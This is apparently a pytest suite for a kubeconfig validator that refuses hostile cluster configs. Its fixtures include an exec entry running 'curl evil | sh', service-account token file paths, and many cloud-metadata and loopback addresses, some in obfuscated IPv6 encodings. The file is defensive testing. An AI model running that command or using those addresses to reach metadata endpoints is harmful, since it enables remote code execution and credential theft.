"""A member cluster's kubeconfig is read as hostile (app/domain/member_kubeconfig.py): every rule
has a kubeconfig that breaks it, refused with the rule named, and nothing of a credential in the
message or the checked member's repr."""

from __future__ import annotations

import base64
import socket

import pytest
import yaml

from app.domain.member_kubeconfig import Refused, read

TOKEN = "sa-token-of-member-b-0123456789"
PEM = base64.b64encode(b"-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n").decode()


def kubeconfig(cluster: dict | None = None, user: dict | None = None, **top) -> str:
    doc = {
        "apiVersion": "v1",
        "kind": "Config",
        "clusters": [
            {
                "name": "b",
                "cluster": {
                    "server": "https://10.0.0.5:6443",
                    "certificate-authority-data": PEM,
                    **(cluster or {}),
                },
            }
        ],
        "users": [{"name": "b", "user": user if user is not None else {"token": TOKEN}}],
        "contexts": [{"name": "b", "context": {"cluster": "b", "user": "b"}}],
        "current-context": "b",
        **top,
    }
    return yaml.safe_dump(doc)


def resolves_to(*addresses: str):
    return lambda host: list(addresses)


def test_a_plain_member_is_read_to_its_checked_fields_alone():
    member = read("b", kubeconfig(cluster={"tls-server-name": "api.b"}), resolve=resolves_to("10.0.0.5"))
    assert (member.server, member.token, member.ca_data, member.tls_server_name) == (
        "https://10.0.0.5:6443",
        TOKEN,
        PEM,
        "api.b",
    )
    assert TOKEN not in repr(member) and "token" in repr(member)
    rebuilt = member.kubeconfig()
    assert rebuilt["users"] == [{"name": "b", "user": {"token": TOKEN}}]
    assert read("b", yaml.safe_dump(rebuilt), resolve=resolves_to("10.0.0.5")) == member


HOSTILE = {
    "exec": ({}, {"exec": {"command": "/bin/sh", "args": ["-c", "curl evil | sh"], "apiVersion": "x"}}),
    "auth-provider": ({}, {"auth-provider": {"name": "gcp", "config": {"cmd-path": "/bin/sh"}}}),
    "file path": ({"certificate-authority": "/var/run/secrets/kubernetes.io/serviceaccount/ca.crt"}, None),
    "file path ": ({}, {"tokenFile": "/var/run/secrets/kubernetes.io/serviceaccount/token"}),
    "file path  ": ({}, {"client-certificate": "/etc/extres/a.crt", "client-key": "/etc/extres/a.key"}),
    "insecure-skip-tls-verify": ({"insecure-skip-tls-verify": True}, None),
    "loopback address": ({"server": "https://127.0.0.1:6443"}, None),
    "loopback address ": ({"server": "https://[::1]:6443"}, None),
    "link-local address": ({"server": "https://169.254.10.1"}, None),
    "link-local address ": ({"server": "https://[fe80::1]:443"}, None),
    "metadata address": ({"server": "https://169.254.169.254/latest/meta-data/"}, None),
    "metadata address ": ({"server": "https://metadata.google.internal"}, None),
    "metadata address  ": ({"server": "https://[::ffff:169.254.169.254]"}, None),
    "proxy-url": ({"proxy-url": "http://10.0.0.9:3128"}, None),
    "server": ({"server": "http://10.0.0.5:6443"}, None),
    "server ": ({"server": "https://user:pw@10.0.0.5"}, None),
    "server  ": ({"server": "https://0.0.0.0"}, None),
    "credentials": ({}, {"username": "admin", "password": "admin"}),
    "credentials ": ({}, {"token": TOKEN, "as": "system:admin"}),
    "credentials  ": ({}, {}),
    "credentials   ": ({}, {"token": TOKEN, "client-certificate-data": PEM, "client-key-data": PEM}),
    "certificate-authority-data": ({"certificate-authority-data": "not base64 !"}, None),
    "cluster fields": ({"disable-compression": True}, None),
}


@pytest.mark.parametrize("rule", HOSTILE, ids=lambda r: r.strip())
def test_each_rule_has_a_hostile_kubeconfig_refused_by_its_name(rule):
    cluster, user = HOSTILE[rule]
    with pytest.raises(Refused) as refused:
        read("b", kubeconfig(cluster, user), resolve=resolves_to("10.0.0.5"))
    assert refused.value.rule == rule.strip() and "cluster b: refused" in str(refused.value)
    assert TOKEN not in str(refused.value) and "admin" not in refused.value.detail.replace("admin-", "")


def test_a_name_resolving_to_loopback_or_metadata_is_refused_like_the_address():
    with pytest.raises(Refused, match="loopback"):
        read(
            "b", kubeconfig({"server": "https://api.b.example"}), resolve=resolves_to("10.0.0.5", "127.0.0.2")
        )
    with pytest.raises(Refused, match="metadata"):
        read("b", kubeconfig({"server": "https://api.b.example"}), resolve=resolves_to("169.254.169.254"))

    def down(host):
        raise socket.gaierror(socket.EAI_NONAME, "Name or service not known")

    with pytest.raises(Refused, match="does not resolve"):
        read("b", kubeconfig({"server": "https://api.b.example"}), resolve=down)


def test_what_a_setting_allows_is_allowed_for_that_cluster_alone():
    insecure = kubeconfig({"insecure-skip-tls-verify": True})
    assert read("b", insecure, insecure_allowed=True, resolve=resolves_to("10.0.0.5")).insecure
    local = kubeconfig({"server": "https://127.0.0.1:6443"})
    assert read("b", local, loopback_allowed=True).server == "https://127.0.0.1:6443"
    with pytest.raises(Refused, match="link-local"):  # the test bed's setting opens loopback only
        read("b", kubeconfig({"server": "https://169.254.1.1"}), loopback_allowed=True)


@pytest.mark.parametrize(
    "text",
    [
        "a: &x [1]\nb: *x\n",  # aliases
        "[" * 100 + "]" * 100,  # nesting
        "- 1\n- 2\n",  # not a mapping
        "kind: Config\n---\nkind: Config\n",  # two documents
        "current-context: nowhere\ncontexts: []\n",
        "\udcff",
        "x" * (300 * 1024),
        b"\xff\xfe",
    ],
    ids=["aliases", "nesting", "list", "two", "no-context", "surrogate", "huge", "not-utf8"],
)
def test_text_that_is_not_one_safe_kubeconfig_is_refused_without_a_crash(text):
    with pytest.raises(Refused):
        read("b", text)


@pytest.mark.parametrize("name", ["../etc", "b\n", "B", "-b", "b" * 64, "b.c", "\uff42"])
def test_a_clusters_name_is_a_dns_label(name):
    """Whole: a trailing newline (which an anchored ``$`` lets through) is refused too."""
    with pytest.raises(Refused, match="DNS label"):
        read(name, kubeconfig())


def test_a_name_is_pinned_to_the_address_checked_and_tls_still_checks_the_name():
    """DNS rebinding: the name resolved to an allowed address when read; connections go to that
    address, the certificate checked against the name, so a later answer of 169.254.169.254 is
    never reached."""
    member = read("b", kubeconfig({"server": "https://api.b.example:6443"}), resolve=resolves_to("10.0.0.7"))
    cluster = member.kubeconfig()["clusters"][0]["cluster"]
    assert cluster["server"] == "https://10.0.0.7:6443" and cluster["tls-server-name"] == "api.b.example"
    v6 = read("b", kubeconfig({"server": "https://api.b.example"}), resolve=resolves_to("fd00::5"))
    assert v6.kubeconfig()["clusters"][0]["cluster"]["server"] == "https://[fd00::5]:443"
    named = read(
        "b",
        kubeconfig({"server": "https://api.b.example", "tls-server-name": "kube"}),
        resolve=resolves_to("10.0.0.7"),
    )
    assert named.kubeconfig()["clusters"][0]["cluster"]["tls-server-name"] == "kube"  # as given
    literal = read("b", kubeconfig(), resolve=resolves_to("10.0.0.5"))
    assert (
        literal.pinned is None
        and literal.kubeconfig()["clusters"][0]["cluster"]["server"] == "https://10.0.0.5:6443"
    )


@pytest.mark.parametrize(
    ("address", "rule"),
    [
        ("64:ff9b::a9fe:a9fe", "metadata"),  # NAT64 of 169.254.169.254
        ("64:ff9b:1:a9fe:a9:fe00::", "metadata"),  # the local-use NAT64 prefix's layout
        ("::a9fe:a9fe", "metadata"),  # IPv4-compatible
        ("2002:a9fe:a9fe::1", "metadata"),  # 6to4
        ("2001:0:4136:e378:8000:63bf:5601:5601", "metadata"),  # Teredo, client 169.254.169.254 obfuscated
        ("64:ff9b::7f00:1", "loopback"),  # NAT64 of 127.0.0.1
        ("2002:7f00:1::1", "loopback"),  # 6to4 of 127.0.0.1
        ("64:ff9b::a9fe:1", "link-local"),
        ("fd20:ce::254", "metadata"),  # GCP's metadata over IPv6
        ("168.63.129.16", "metadata"),  # Azure's WireServer
    ],
)
def test_an_ipv4_rule_holds_for_the_ipv6_forms_that_carry_that_address(address, rule):
    with pytest.raises(Refused, match=rule):
        read("b", kubeconfig({"server": "https://api.b.example"}), resolve=resolves_to(address))
    assert read("b", kubeconfig({"server": "https://api.b.example"}), resolve=resolves_to("64:ff9b::a00:5"))
